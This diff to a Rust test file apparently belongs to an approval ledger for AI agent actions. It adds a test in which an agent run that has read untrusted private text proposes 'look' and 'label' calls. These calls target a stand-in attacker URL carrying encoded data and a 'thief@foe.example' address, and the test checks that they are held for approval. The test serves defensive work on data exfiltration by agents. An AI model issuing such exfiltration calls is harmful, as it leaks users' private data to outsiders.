@@ -52,11 +52,11 @@ fn pay(to: &str, eur: u32) -> Value {
 /// A ledger that a program of edition 1 has written: 60 to one account in three writings, each with an allowance of its
 /// own, and once more in the first.
 fn of_edition_1() -> Export {
-    Export::open(&path()).unwrap()
+    Export::open(&path("edition-1")).unwrap()
 }
 
-fn path() -> PathBuf {
-    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/edition-1")
+fn path(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join(name)
 }
 
 /// The same in memory, so that it goes on.
@@ -85,19 +85,24 @@ fn continued() -> Memory {
     memory
 }
 
-#[test]
-fn what_edition_1_has_decided_is_decided_again_as_it_was() {
-    let mut export = of_edition_1();
+/// What came of the decisions of an export, each of this edition and made again as it was made.
+fn decided_again(name: &str, edition: u32) -> Vec<String> {
+    let mut export = Export::open(&path(name)).unwrap();
     let entries = export.entries(0, 999).unwrap();
     let entries = entries.iter().map(|(_, bytes)| serde_json::from_slice::<Entry>(bytes).unwrap());
     let ruled: Vec<_> =
         entries.filter_map(|e| if let Event::Ruled(r) = e.event { Some(r) } else { None }).collect();
-    assert!(ruled.iter().all(|ruled| ruled.facts.edition == 1));
-    let outcomes: Vec<_> = ruled.iter().map(|ruled| ruled.outcome.as_str()).collect();
-    assert_eq!(outcomes, ["approved", "approved", "approved", "escalated"]);
-    assert_eq!(verify_export(&path(), &auditor(), None).unwrap().entries, export.head().unwrap().size);
+    assert!(ruled.iter().all(|ruled| ruled.facts.edition == edition));
+    assert_eq!(verify_export(&path(name), &auditor(), None).unwrap().entries, export.head().unwrap().size);
     let again = redecide(&mut export, 0..u64::MAX).unwrap();
-    assert_eq!((again.decisions, again.mismatches.len(), again.unavailable.len()), (4, 0, 0), "{again:#?}");
+    let found = (again.decisions, again.mismatches.len(), again.unavailable.len());
+    assert_eq!(found, (ruled.len() as u64, 0, 0), "{again:#?}");
+    ruled.iter().map(|ruled| ruled.outcome.as_str().to_owned()).collect()
+}
+
+#[test]
+fn what_edition_1_has_decided_is_decided_again_as_it_was() {
+    assert_eq!(decided_again("edition-1", 1), ["approved", "approved", "approved", "escalated"]);
 }
 
 #[test]
@@ -168,4 +173,43 @@ fn what_is_decided_beside_a_plan_that_waits_is_decided_again_as_it_was() {
     assert_eq!(before, ["unproven_destination"; 2]);
     assert_eq!(after, ["done"; 2]);
     audit_store(&mut memory.reopen());
+}
+
+/// A program of edition 2 has let a run that had read a stranger's text look at an address under the name of a picture. The
+/// same question is asked about now.
+#[test]
+fn what_edition_2_has_decided_is_decided_again_as_it_was() {
+    assert_eq!(decided_again("edition-2", 2), ["approved", "approved", "approved", "escalated"]);
+    let memory = Memory::new();
+    block_on(async {
+        let bundle = VettedBundle::load(readers()).unwrap_or_else(|p| panic!("{p:#?}"));
+        let world =
+            World { bundle: Arc::new(bundle.into_bundle()), ..World::open(Box::new(memory.reopen())) };
+        let run = world.run("bot").await;
+        let looked = run.allowed("look", json!({"image": "notes.txt"})).await;
+        let labels = Labels { untrusted: true, private: true, ..Labels::default() };
+        let read = Conclusion { labels, ..conclusion(looked.get().id(), OutcomeKind::Done) };
+        world.ledger.conclude(read, world.now()).await.unwrap();
+        for arguments in [json!({"image": AWAY}), json!({"image": [{"of": "thief@foe.example"}]})] {
+            waiting(run.propose("look", arguments).await);
+        }
+        waiting(run.propose("label", json!({"by": AWAY})).await);
+    });
+    audit_store(&mut memory.reopen());
+}
+
+const AWAY: &str = "https://foe.example/?d=c2VjcmV0";
+
+/// A reader whose argument has a name that is on no list, and a change with such an argument beside what it changes.
+fn readers() -> Vec<Source> {
+    let actions = json!([
+        {"name": "look", "effect": "read", "arguments": {"type": "object", "properties": {"image": {}}}},
+        {"name": "label", "effect": "write", "reversibility": "reversible", "severity": 1,
+         "arguments": {"type": "object", "properties": {"by": {"type": "string"}}}, "args": {"by": {"class": "selector"}}}]);
+    let bot =
+        json!({"agent_id": "bot", "allowed_actions": ["look", "label"], "auto_approve_threshold": "1.00"});
+    vec![
+        Source { path: "actions/all.json".into(), text: actions.to_string() },
+        Source { path: "agents/bot.json".into(), text: bot.to_string() },
+    ]
 }
